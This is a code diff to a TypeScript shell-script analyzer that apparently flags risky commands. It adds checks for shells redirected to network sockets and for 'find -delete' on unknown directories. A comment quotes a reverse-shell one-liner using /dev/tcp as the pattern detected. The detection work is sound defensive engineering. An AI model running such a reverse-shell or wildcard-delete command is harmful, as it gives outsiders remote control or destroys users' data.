@@ -449,13 +449,21 @@ class Analyzer {
           dir.split('/').filter(Boolean).length >= 2 ||
           /^[^/$]/.test(prefix);
         if (!safe) this.finding('dynamic-target', `${cmd.name} acts on a computed path: ${w.text}`, raw);
-      } else if (ctx.scope.cwd === undefined && /^(\.|\.\.|\*|\.\*|\.\/\*|\.\.\/\*|\.\/?)$/.test(w.value)) {
+      } else if (
+        ctx.scope.cwd === undefined &&
+        !/^(chmod|chown|chgrp)$/.test(cmd.name) &&
+        /^(\.|\.\.|\*|\.\*|\.\/\*|\.\.\/\*|\.\/?)$/.test(w.value)
+      ) {
         this.finding('dynamic-target', `${cmd.name} ${w.value} in an unknown directory`, raw);
       }
     }
   }
 
   shell(name: string, words: StaticWord[], redirects: ShellRedirect[], ctx: Ctx, raw: string): void {
+    if (redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target))) {
+      // `bash -i >& /dev/tcp/host/port 0>&1`: a shell wired to a network socket (a reverse shell).
+      this.finding('download-exec', `${name} is wired to a network socket`, raw);
+    }
     let cflag = false;
     let stdinFlag = false;
     let i = 1;
@@ -751,6 +759,12 @@ class Analyzer {
       ...(cwd !== undefined ? { cwd } : {}),
     };
     this.commands.push(cmd);
+    if ((flags.has('delete') || flags.has('destroy')) && !narrowed && cwd === undefined) {
+      for (const st of starts) {
+        if (/^(\.|\.\.|\*|\.\/?)$/.test(st))
+          this.finding('dynamic-target', `find ${st} -delete in an unknown directory`, raw);
+      }
+    }
     // Each -exec/-execdir/-ok: the inner command with {} standing for what find visits.
     for (let k = i; k < rest.length; k++) {
       const v = rest[k]?.value ?? '';
